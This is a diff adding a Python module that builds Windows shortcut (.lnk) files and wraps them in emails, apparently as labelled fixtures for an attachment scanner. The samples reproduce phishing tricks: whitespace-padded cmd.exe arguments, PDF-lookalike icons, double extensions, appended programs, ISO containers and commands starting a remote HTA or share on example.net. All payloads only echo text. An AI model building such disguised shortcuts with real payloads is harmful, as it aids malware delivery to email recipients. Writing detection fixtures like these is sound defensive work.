@@ -1,0 +1,152 @@
+# SPDX-License-Identifier: ISC
+"""Shortcuts and other small files that start something, or lead elsewhere."""
+import struct
+
+from . import LETTER, PROGRAM, carrier, mail
+from .archives import bsdtarred, zipped
+
+HEAD = b"\x4c\0\0\0" + bytes.fromhex("0114020000000000c000000000000046")
+
+
+def string(text):
+    return struct.pack("<H", len(text)) + text.encode("utf-16le")
+
+
+def item(data):
+    return struct.pack("<H", len(data) + 2) + data
+
+
+def file_item(name, folder):
+    """A short name, and in an extension of version 9 the long one."""
+    short = name[:8].encode("ascii", "replace") + b"\0"
+    short += b"\0" * (len(short) % 2)
+    body = bytes([0x31 if folder else 0x32, 0]) + bytes(10) + short
+    at = len(body) + 2
+    long_name = name.encode("utf-16le") + b"\0\0"
+    size = 46 + len(long_name) + 2
+    return item(body + struct.pack("<HHI", size, 9, 0xBEEF0004) + bytes(10)
+                + bytes(28) + long_name + struct.pack("<H", at))
+
+
+def items(path):
+    drive, *names = path.split("\\")
+    out = item(b"\x1f\x50" + bytes.fromhex("e04fd020ea3a6910a2d808002b30309d"))
+    out += item(b"\x2f" + drive.encode() + b"\\" + bytes(19))
+    for n, name in enumerate(names, 1):
+        out += file_item(name, n < len(names))
+    out += b"\0\0"
+    return struct.pack("<H", len(out)) + out
+
+
+def share_info(share, rest):
+    net = share.encode() + b"\0"
+    link = struct.pack("<IIIII", 20 + len(net), 2, 20, 0, 0x20000) + net
+    suffix = rest.encode() + b"\0"
+    return struct.pack("<IIIIIII", 28 + len(link) + len(suffix), 28, 2, 0, 0,
+                       28, 28 + len(link)) + link + suffix
+
+
+def local_info(path):
+    path = path.encode() + b"\0"
+    return struct.pack("<IIIIIII", 28 + len(path) + 1, 28, 1, 0, 28, 0,
+                       28 + len(path)) + path + b"\0"
+
+
+def variables(kind, path):
+    return struct.pack("<II", 0x314, kind) + \
+        path.encode("ascii", "replace").ljust(260, b"\0") + \
+        path.encode("utf-16le").ljust(520, b"\0")
+
+
+def lnk(path=None, info=b"", relative=None, folder=None, arguments=None,
+        icon=None, index=0, blocks=b"", behind=b""):
+    """A shell link (MS-SHLLINK)."""
+    flags = 0x80 | (path is not None) | bool(info) << 1
+    strings = b""
+    for bit, text in ((0x08, relative), (0x10, folder), (0x20, arguments),
+                      (0x40, icon)):
+        if text is not None:
+            flags |= bit
+            strings += string(text)
+    return (HEAD + struct.pack("<IIQQQIiIHHII", flags, 0x20, 0, 0, 0, 0,
+                               index, 1, 0, 0, 0, 0)
+            + (items(path) if path is not None else b"") + info + strings
+            + blocks + bytes(4) + behind)
+
+
+CMD = "C:\\Windows\\System32\\cmd.exe"
+WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
+ECHO = "/c echo harmless"
+LINK = "shortcut.link"
+for title, facts, content in [
+        ("neighbour", LINK, lambda: lnk(WORD, icon=WORD)),
+        ("arguments", LINK, lambda: lnk(CMD, arguments=ECHO)),
+        ("local-neighbour", LINK,
+         lambda: lnk(info=local_info("C:\\tools\\a.txt"))),
+        ("padded", LINK + " shortcut.hidden",
+         lambda: lnk(CMD, arguments=" \n\t" * 90 + ECHO)),
+        ("padded-neighbour", LINK,
+         lambda: lnk(CMD, arguments="/c    echo   harmless")),
+        ("icon", LINK + " shortcut.document_icon",
+         lambda: lnk(CMD, arguments=ECHO, icon="%ProgramFiles(x86)%\\Adobe\\"
+                     "Acrobat Reader DC\\Reader\\AcroRd32.exe")),
+        ("icon-ending", LINK + " shortcut.document_icon",
+         lambda: lnk(CMD, arguments=ECHO, icon=".\\report.pdf")),
+        ("icon-system", LINK + " shortcut.document_icon",
+         lambda: lnk(CMD, icon="%SystemRoot%\\System32\\shell32.dll",
+                     index=1)),
+        ("icon-block", LINK + " shortcut.document_icon",
+         lambda: lnk(CMD, icon="a.ico", blocks=variables(
+             0xA0000007, "%SystemRoot%\\System32\\imageres.dll"), index=97)),
+        ("icon-system-neighbour", LINK,
+         lambda: lnk("C:\\Users", icon="%SystemRoot%\\System32\\shell32.dll",
+                     index=3)),
+        ("appended", LINK + " shortcut.appended",
+         lambda: lnk(CMD, arguments=ECHO, behind=LETTER)),
+        ("appended-program",
+         LINK + " shortcut.appended attachment.program",
+         lambda: lnk(CMD, arguments=ECHO, behind=PROGRAM)),
+        ("appended-zip",
+         LINK + " shortcut.appended attachment.program attachment.runs",
+         lambda: lnk(CMD, behind=zipped({"tool.exe": PROGRAM}))),
+        ("share", LINK + " shortcut.remote",
+         lambda: lnk(info=share_info("\\\\example.net\\a", "b.exe"))),
+        ("share-arguments", LINK + " shortcut.remote",
+         lambda: lnk(CMD, arguments="/c start \\\\example.net@SSL\\a\\b")),
+        ("web-arguments", LINK + " shortcut.remote",
+         lambda: lnk(CMD, arguments="/c start hTTps://example.net/a.hta")),
+        ("web-arguments-neighbour", LINK,
+         lambda: lnk(CMD, arguments="/c httpd.exe C:\\\\a")),
+        ("share-icon", LINK + " shortcut.remote",
+         lambda: lnk(CMD, icon="\\\\example.net\\a\\b.ico")),
+        ("variables", LINK, lambda: lnk("C:\\a.txt", blocks=variables(
+            0xA0000001, "%ComSpec%"), arguments=ECHO)),
+        ("broken", LINK + " uninspectable",
+         lambda: lnk(CMD, arguments=ECHO)[:150])]:
+    carrier("lnk-" + title, facts)(
+        lambda content=content: mail(("a.dat", content())))
+
+
+@carrier("lnk-named", LINK + " attachment.runs name.double_extension")
+def _():
+    return mail(("会議資料.pdf.lnk", lnk(CMD, arguments=ECHO)))
+
+
+@carrier("lnk-in-zip", LINK + " attachment.runs")
+def _():
+    return mail(("a.zip", zipped({"a.lnk": lnk(CMD, arguments=ECHO)})))
+
+
+@carrier("lnk-in-iso", LINK + " attachment.runs")
+def _():
+    return mail(("a.img", bsdtarred({"a.lnk": lnk(CMD)}, "iso9660")))
+
+
+@carrier("lnk-as-pdf", LINK + " type.mismatch")
+def _():
+    return mail(("a.pdf", lnk(CMD, arguments=ECHO)))
+
+
+@carrier("lnk-text-neighbour")
+def _():
+    return mail(("a.txt", b"L is for links.\r\n" + HEAD[1:]))
